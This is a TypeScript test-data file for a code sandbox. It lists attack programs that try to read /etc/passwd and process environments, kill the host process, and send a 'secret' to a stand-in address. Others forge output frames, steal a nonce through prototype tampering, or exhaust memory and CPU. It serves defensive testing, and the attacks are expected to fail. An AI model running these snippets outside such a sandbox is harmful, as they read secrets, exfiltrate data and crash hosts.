/**
 * Attacks on the wall, as data. Each really runs, against the guest side as it is (`end`) and, where
 * `wall` is given, against one whose sealing has been taken away, so that the process and its
 * permissions alone must hold. Ends are one line each: `completed …`, `failed …`, `stopped …`.
 */

import { FURTHER_THREATS } from "./further_threats.ts";
import type { Threat } from "./threat.ts";

const FLAGS = "src/runtime/deno_runtime.ts";
const SEAL = "workers/guest/seal.ts";
const SESSION = "src/runtime/session.ts";
const LIMITS = "src/runtime/limits.ts";
const CODEC = "src/protocol/encode_value.ts";
const TOOLS = "workers/guest/tools.ts";
const LINES = "src/protocol/lines.ts";

const NO_MODULE = /^failed \w+: This module is not available to programs$/;
const OUT_OF_MEMORY =
  "stopped MEMORY_LIMIT_EXCEEDED: Code execution exceeded its memory limit of 134217728 bytes";
const OUT_OF_TIME = "stopped EXECUTION_TIMEOUT: Code execution timed out after 1000ms";
const missing = (verb: string, capability: string, target: string) =>
  `${verb} ${target}: the capability "${capability}:${target}" is missing`;
const mayNotRead = (target: string) => missing("This program may not read", "read", target);
const denied = (text: string) => `failed NotCapable: ${text}`;

const node = (
  id: string,
  vector: string,
  code: string,
  wall: string | RegExp,
): Threat => ({ id, vector, defence: FLAGS, verdict: "blocked", code, end: NO_MODULE, wall });

/** Doors of the engine's own modules; sealed they do not even load. */
const MODULES: readonly Threat[] = [
  node(
    "read-node-fs",
    "read a file",
    "return (await import('node:fs')).readFileSync('/etc/passwd', 'utf8')",
    denied(mayNotRead("/etc/passwd")),
  ),
  node(
    "read-proc",
    "read the process's own environment from /proc",
    "return (await import('node:fs')).readFileSync('/proc/self/environ', 'utf8')",
    denied(mayNotRead("/proc/self/environ")),
  ),
  node(
    "write-node-fs",
    "write a file",
    "(await import('node:fs')).writeFileSync('/tmp/escaped', 'x')",
    denied(missing("This program may not write", "write", "/tmp/escaped")),
  ),
  node(
    "symlink",
    "make a symbolic link to read through",
    "(await import('node:fs')).symlinkSync('/etc/passwd', '/tmp/escaped')",
    /^failed NotCapable: /,
  ),
  node(
    "env",
    "read the environment",
    "return (await import('node:process')).default.env.HOME",
    denied(missing("This program may not read", "env", "HOME")),
  ),
  node(
    "run",
    "start a program",
    "return (await import('node:child_process')).execFileSync('/bin/id').toString()",
    /^failed NotCapable: /,
  ),
  node(
    "kill-host",
    "kill the process that started the sandbox",
    "const p = (await import('node:process')).default; p.kill(p.ppid, 9)",
    denied('No program may use "run" (anything)'),
  ),
  node(
    "net-socket",
    "open a socket",
    "const n = await import('node:net'); return await new Promise((yes, no) => n.connect(80, '192.0.2.1', yes).on('error', no))",
    /^failed NotCapable: .*network:192\.0\.2\.1:80/,
  ),
  node(
    "net-listen",
    "listen on a port",
    "const h = await import('node:http'); return await new Promise((yes, no) => h.createServer().listen(0, yes).on('error', no))",
    /^failed NotCapable: /,
  ),
  node(
    "exit",
    "end the process and pass for finished",
    "(await import('node:process')).default.exit(0)",
    "stopped SANDBOX_CRASHED: The sandbox ended before the program did: exit code 0",
  ),
  node(
    "require-file",
    "read a file as a module through require",
    "return (await import('node:module')).createRequire('file:///etc/x')('/etc/hostname')",
    denied(mayNotRead("/etc/hostname")),
  ),
  {
    ...node(
      "sys",
      "read facts about the machine",
      "return (await import('node:os')).hostname()",
      denied('No program may use "sys" (hostname)'),
    ),
    end: "failed ReferenceError: Deno is not defined",
  },
  {
    ...node(
      "forge-final",
      "write a final frame to the channel",
      '(await import(\'node:fs\')).writeSync(1, \'\\n{"type":"final","ok":true,"value":"forged","notes":[]}\\n\'); return \'true\'',
      'completed "true"',
    ),
    defence: LINES,
  },
  {
    ...node(
      "forge-partial",
      "leave half a line before a true frame",
      "(await import('node:fs')).writeSync(1, '{\"type\":'); return 'true'",
      'completed "true"',
    ),
    defence: LINES,
  },
  {
    ...node(
      "forge-nonce",
      "guess the nonce of the run",
      'const { writeSync } = await import(\'node:fs\'); for (let i = 0; i < 200; i++) writeSync(1, `\\nn_${crypto.randomUUID().replaceAll(\'-\', \'\')} {"type":"final","ok":true,"value":"forged","notes":[]}\\n`); return \'true\'',
      'completed "true"',
    ),
    defence: LINES,
  },
  {
    id: "forge-wasi",
    vector: "write to the channel through WASI, which loads in a sealed scope too",
    defence: LINES,
    verdict: "blocked",
    code:
      `const { WASI } = await import('node:wasi'); const wasi = new WASI({ version: 'preview1' });
const { instance } = await WebAssembly.instantiate(new Uint8Array([0,97,115,109,1,0,0,0,5,3,1,0,1,7,10,1,6,109,101,109,111,114,121,2,0]));
wasi.initialize(instance);
const frame = new TextEncoder().encode('\\n{"type":"final","ok":true,"value":"forged","notes":[]}\\n');
const { buffer } = instance.exports.memory;
new Uint8Array(buffer).set(frame, 64);
new Uint32Array(buffer).set([64, frame.length]);
return wasi.wasiImport.fd_write(1, 0, 1, 16)`,
    end: "completed 0",
  },
  {
    ...node(
      "close-channel",
      "close the channel",
      "(await import('node:fs')).closeSync(1); return 1",
      /^stopped SANDBOX_CRASHED: /,
    ),
    verdict: "contained",
  },
  {
    ...node(
      "flood-channel",
      "fill the channel without end",
      "const { writeSync } = await import('node:fs'); for (;;) writeSync(1, 'x'.repeat(60000))",
      "stopped OUTPUT_LIMIT_EXCEEDED: A single message of the program is larger than 1048576 bytes",
    ),
    defence: SESSION,
    verdict: "contained",
  },
  {
    ...node(
      "nested-worker",
      "start a thread",
      "return await new Promise((yes, no) => import('node:worker_threads').then(({ Worker }) => new Worker('for (;;);', { eval: true }).on('error', no), no))",
      /^stopped (MEMORY_LIMIT_EXCEEDED|EXECUTION_TIMEOUT)/,
    ),
    verdict: "contained",
    end: /^failed /,
  },
];

/** Doors of the engine's global object, which only an unsealed guest has. */
const GLOBALS: readonly Threat[] = ([
  ["deno-read", "Deno.readTextFileSync('/etc/passwd')", denied(mayNotRead("/etc/passwd"))],
  [
    "deno-connect",
    "await Deno.connect({ hostname: '192.0.2.1', port: 80 })",
    denied(missing("This program may not reach", "network", "192.0.2.1:80")),
  ],
  [
    "deno-unix-socket",
    "await Deno.connect({ transport: 'unix', path: '/tmp/x' })",
    /^failed NotCapable: /,
  ],
  ["deno-run", "new Deno.Command('/bin/id').outputSync()", /^failed NotCapable: /],
  ["deno-ffi", "Deno.dlopen('libc.so.6', {})", /^failed NotCapable: /],
  [
    "deno-env",
    "Deno.env.toObject()",
    denied(missing("This program may not read", "env", "anything")),
  ],
  ["deno-kill", "Deno.kill(Deno.ppid, 'SIGKILL')", /^failed NotCapable: /],
] as const).map(([id, code, wall]) => ({
  id,
  vector: "the engine's own functions",
  defence: SEAL,
  verdict: "blocked",
  code: `return ${code}`,
  end: "failed ReferenceError: Deno is not defined",
  wall,
}));

const IMPORTS: readonly Threat[] = ([
  [
    "import-file",
    "import('file:///etc/hostname')",
    `failed TypeError: ${mayNotRead("/etc/hostname")}`,
  ],
  [
    "import-text",
    "import('file:///etc/hostname', { with: { type: 'text' } })",
    `failed TypeError: ${mayNotRead("/etc/hostname")}`,
  ],
  [
    "import-json",
    "import('file:///etc/x.json', { with: { type: 'json' } })",
    `failed TypeError: ${mayNotRead("/etc/x.json")}`,
  ],
  [
    "import-static-in-data",
    "import(`data:text/javascript,export { default } from 'file:///etc/hostname' with { type: 'text' }`)",
    `failed TypeError: ${mayNotRead("/etc/hostname")}`,
  ],
  [
    "import-https",
    "import('https://esm.sh/x?secret')",
    /^failed TypeError: A remote specifier was requested/,
  ],
  ["import-http-loopback", "import('http://127.0.0.1:9/x.js')", /^failed TypeError: /],
  ["import-npm", "import('npm:chalk')", /^failed TypeError: npm specifiers were requested/],
  ["import-jsr", "import('jsr:@std/assert')", /^failed TypeError: .*--no-remote/],
] as const).map(([id, code, end]) => ({
  id,
  vector: "dynamic import as a way to files and the network",
  defence: FLAGS,
  verdict: "blocked",
  code: `return (await ${code}).default`,
  end,
  wall: end,
}));

const NETWORK: readonly Threat[] = [
  {
    id: "access-not-granted",
    vector: "files, variables and the host's own namespaces without a grant",
    defence: "workers/guest/access.ts",
    verdict: "blocked",
    code: "return [typeof files, typeof env, typeof mcp['@files'], typeof mcp['@network']].join()",
    end: 'completed "undefined,undefined,undefined,undefined"',
  },
  {
    id: "fetch",
    vector: "an HTTP request",
    defence: FLAGS,
    verdict: "blocked",
    code: "await fetch('http://192.0.2.1/?secret')",
    end: `failed TypeError: ${missing("This program may not reach", "network", "192.0.2.1:80")}`,
  },
  {
    id: "fetch-file",
    vector: "a file by fetch",
    defence: FLAGS,
    verdict: "blocked",
    code: "return await (await fetch('file:///etc/passwd')).text()",
    end: denied(mayNotRead("/etc/passwd")),
  },
  {
    id: "websocket",
    vector: "a WebSocket",
    defence: FLAGS,
    verdict: "blocked",
    code: "new WebSocket('ws://192.0.2.1')",
    end: denied(missing("This program may not reach", "network", "192.0.2.1:80")),
  },
  {
    id: "import-data",
    vector: "code from a data URL, to meet unsealed globals",
    defence: SEAL,
    verdict: "accepted",
    reason: "it runs in the same sealed realm",
    code: "return (await import('data:text/javascript,export default typeof Deno')).default",
    end: 'completed "undefined"',
  },
  {
    id: "code-from-text",
    vector: "code from text, to meet unsealed globals",
    defence: SEAL,
    verdict: "accepted",
    reason: "it runs in the same sealed realm",
    code: "return (async () => {}).constructor('return typeof Deno')()",
    end: 'completed "undefined"',
  },
];

/** Prelude of attacks on the nonce: what the guest side's bytes show is kept in `seen`. */
const WATCH_BYTES =
  "const U = Uint8Array, text = (b) => new TextDecoder().decode(new U(b)), seen = []; ";

const NONCE: readonly Threat[] = ([
  [
    "steal-nonce-species",
    "Object.defineProperty(U, Symbol.species, { get() { return class extends U { constructor(b, o, l) { super(b, o, l); seen.push(text(b)) } } } })",
  ],
  [
    "steal-nonce-constructor",
    "Object.defineProperty(U.prototype, 'constructor', { get() { seen.push(text(this.buffer)); return U } })",
  ],
  [
    "steal-nonce-length",
    "const { get } = Object.getOwnPropertyDescriptor(Object.getPrototypeOf(U.prototype), 'length'); Object.defineProperty(U.prototype, 'length', { get() { seen.push(text(this.buffer)); return Reflect.apply(get, this, []) } })",
  ],
] as const).map(([id, code]) => ({
  id,
  vector: "built-ins that hand the guest side's bytes, and so the nonce, to the program",
  defence: LINES,
  verdict: "blocked",
  code:
    `${WATCH_BYTES}${code}; await memory.read(1); console.log('x'); return /n_[0-9a-f]{32}/.test(seen.join())`,
  end: "completed false",
}));

const PERSISTENCE: readonly Threat[] = [
  "localStorage",
  "sessionStorage",
  "caches",
  "BroadcastChannel",
  "Worker",
]
  .map((name) => ({
    id: `storage-${name}`,
    vector: "state or threads that outlive the run",
    defence: SEAL,
    verdict: "blocked",
    code: `return typeof ${name}`,
    end: 'completed "undefined"',
  }));

const POLLUTION: readonly Threat[] = ([
  [
    "pollute-to-json",
    "Object.prototype.toJSON = () => 'evil'; Array.prototype.toJSON = () => 'evil'; return { a: [1, new Date(0)] }",
    'completed {"a":[1,{"$type":"Date","value":"1970-01-01T00:00:00.000Z"}]}',
  ],
  [
    "pollute-json",
    "JSON.stringify = () => '{}'; JSON.parse = () => ({}); return [await memory.read({ a: 1 })]",
    'completed [{"a":1}]',
  ],
  [
    "pollute-array",
    "Array.prototype.push = () => 9; Array.prototype[Symbol.iterator] = null; Array.isArray = () => false; return [await memory.read([1, 2])]",
    "completed [[1,2]]",
  ],
  [
    "pollute-promise",
    "const { then } = Promise.prototype; Promise.prototype.then = function (...a) { return then.apply(this, a.map(() => () => 'evil')) }; return 1",
    "completed 1",
  ],
  [
    "pollute-setters",
    "Object.defineProperty(Object.prototype, 'value', { set() { throw 1 }, configurable: true }); return [new Date(0)]",
    'completed [{"$type":"Date","value":"1970-01-01T00:00:00.000Z"}]',
  ],
  [
    "pollute-encoder",
    "const seen = []; TextEncoder.prototype.encode = (text) => { seen.push(text); return new Uint8Array() }; console.log('x'); return seen",
    "completed []",
  ],
  [
    "own-proto-key",
    'return JSON.parse(\'{"__proto__":{"x":1}}\')',
    'completed {"__proto__":{"x":1}}',
  ],
  ["thenable-result", "return { then(done) { done('settled') } }", 'completed "settled"'],
  [
    "hostile-getter",
    "return { get a() { throw new Error('no') } }",
    'completed {"a":{"$type":"undefined"}}',
  ],
  [
    "hostile-proxy",
    "return [new Proxy({}, { ownKeys() { throw 1 } })]",
    'completed [{"$type":"undefined"}]',
  ],
  [
    "hostile-error",
    "const e = new Error('x'); Object.defineProperty(e, 'message', { get() { throw 1 } }); throw e",
    "failed Error: ",
  ],
] as const).map(([id, code, end]) => ({
  id,
  vector: "built-ins and values that lie to the guest side and to the host",
  defence: CODEC,
  verdict: "blocked",
  code,
  end,
}));

const NAMES: readonly Threat[] = [
  {
    id: "inherited-tool-name",
    vector: "names every object has as tools",
    defence: TOOLS,
    verdict: "blocked",
    code:
      "return ['constructor', '__proto__', 'hasOwnProperty', 'toString', 'then'].map((name) => typeof memory[name] + typeof mcp[name])",
    end: `completed ${JSON.stringify(Array(5).fill("undefinedundefined"))}`,
  },
  {
    id: "replace-tool",
    vector: "a tool put in the place of another",
    defence: TOOLS,
    verdict: "blocked",
    code: "memory.read = () => 'evil'",
    end: /^failed TypeError: Cannot assign to read only property 'read'/,
  },
  {
    id: "walk-callers",
    vector: "the functions that called the program",
    defence: "src/protocol/program.ts",
    verdict: "blocked",
    code: "return (function f() { return f.caller })()",
    end: /^failed TypeError: 'caller'/,
  },
];

const BOMBS: readonly Threat[] = ([
  ["heap-bomb", "const a = []; for (;;) a.push(new Array(1000).fill(1))", OUT_OF_MEMORY],
  ["buffer-bomb", "const a = []; for (;;) a.push(new Uint8Array(1e7).fill(1))", OUT_OF_MEMORY],
  [
    "wasm-bomb",
    "const m = new WebAssembly.Memory({ initial: 1, maximum: 65536 }); for (;;) m.grow(100)",
    OUT_OF_MEMORY,
  ],
  [
    "caught-buffer-bomb",
    "const a = []; for (;;) try { a.push(new Uint8Array(1e7).fill(1)) } catch {}",
    /^stopped (EXECUTION_TIMEOUT|MEMORY_LIMIT_EXCEEDED)/,
  ],
  ["string-bomb", "let s = 'x'; for (;;) s += s", "failed RangeError: Invalid string length"],
  [
    "bigint-bomb",
    "let n = 3n; for (;;) n *= n",
    /^(stopped (EXECUTION_TIMEOUT|MEMORY_LIMIT_EXCEEDED)|failed RangeError: Maximum BigInt size exceeded)/,
  ],
  [
    "recursion-bomb",
    "const f = () => f() + 1; f()",
    "failed RangeError: Maximum call stack size exceeded",
  ],
  ["spin", "for (;;) {}", OUT_OF_TIME],
  [
    "microtask-spin",
    "const f = () => Promise.resolve().then(f); await f()",
    /^stopped (EXECUTION_TIMEOUT|MEMORY_LIMIT_EXCEEDED)/,
  ],
  ["regexp-spin", "return /^(a+)+$/.test('a'.repeat(40) + 'b')", OUT_OF_TIME],
  [
    "unpolled-builtin",
    "return 'a'.repeat(6e6).indexOf('a'.repeat(3e6) + 'b') + [1, 2].length",
    /^(stopped EXECUTION_TIMEOUT|completed)/,
  ],
  [
    "deep-result",
    "let o = {}; for (let i = 0; i < 1e5; i++) o = { o }; return o",
    /^failed RangeError: Cannot encode result/,
  ],
  [
    "wide-result",
    "return 'x'.repeat(2e6)",
    "stopped OUTPUT_LIMIT_EXCEEDED: A single message of the program is larger than 1048576 bytes",
  ],
  [
    "log-flood",
    "for (;;) console.log('x'.repeat(10000))",
    "stopped OUTPUT_LIMIT_EXCEEDED: The program's output in all is larger than 4194304 bytes",
  ],
  [
    "call-flood",
    "for (;;) memory.read()",
    "stopped CALL_LIMIT_EXCEEDED: The program made more than 100 tool calls",
  ],
] as const).map(([id, code, end]) => ({
  id,
  vector: "more than the program was given",
  defence: LIMITS,
  verdict: "contained",
  code,
  end,
  ...(typeof end === "string" && end !== OUT_OF_TIME ? {} : { timeoutMs: 1000 }),
}));

const LATE: readonly Threat[] = [
  {
    id: "late-call",
    vector: "a call after the program has ended",
    defence: SESSION,
    verdict: "blocked",
    code: "setTimeout(() => memory.read('late'), 0); return 'done'",
    end: 'completed "done"',
  },
  {
    id: "host-path-in-stack",
    vector: "paths of the host in an error's stack",
    defence: FLAGS,
    verdict: "blocked",
    code: "return /file:|tmp|src|workers|built|codemode/.test(new Error('x').stack)",
    end: "completed false",
  },
];

/** Every attack. */
export const THREATS: readonly Threat[] = Object.freeze(
  [
    ...MODULES,
    ...GLOBALS,
    ...IMPORTS,
    ...NETWORK,
    ...NONCE,
    ...PERSISTENCE,
    ...POLLUTION,
    ...NAMES,
    ...BOMBS,
    ...LATE,
    ...FURTHER_THREATS,
  ] as readonly Threat[],
);
